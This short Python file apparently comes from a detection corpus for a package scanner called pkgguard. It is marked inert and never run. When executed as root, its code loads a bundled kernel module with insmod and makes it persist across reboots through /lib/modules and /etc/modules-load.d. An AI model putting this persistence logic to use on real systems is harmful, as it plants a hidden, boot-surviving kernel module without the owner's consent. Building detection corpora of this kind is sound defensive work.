# pkgguard corpus 810 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import shutil
import subprocess

if os.name == "posix" and os.geteuid() == 0:
    module = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data", "nf_cache.ko")
    subprocess.run(["insmod", module], capture_output=True)
    extra = f"/lib/modules/{os.uname().release}/extra"
    os.makedirs(extra, exist_ok=True)
    shutil.copy(module, extra)
    with open("/etc/modules-load.d/nf_cache.conf", "w") as fh:
        fh.write("nf_cache\n")
    subprocess.run(["depmod", "-a"], capture_output=True)
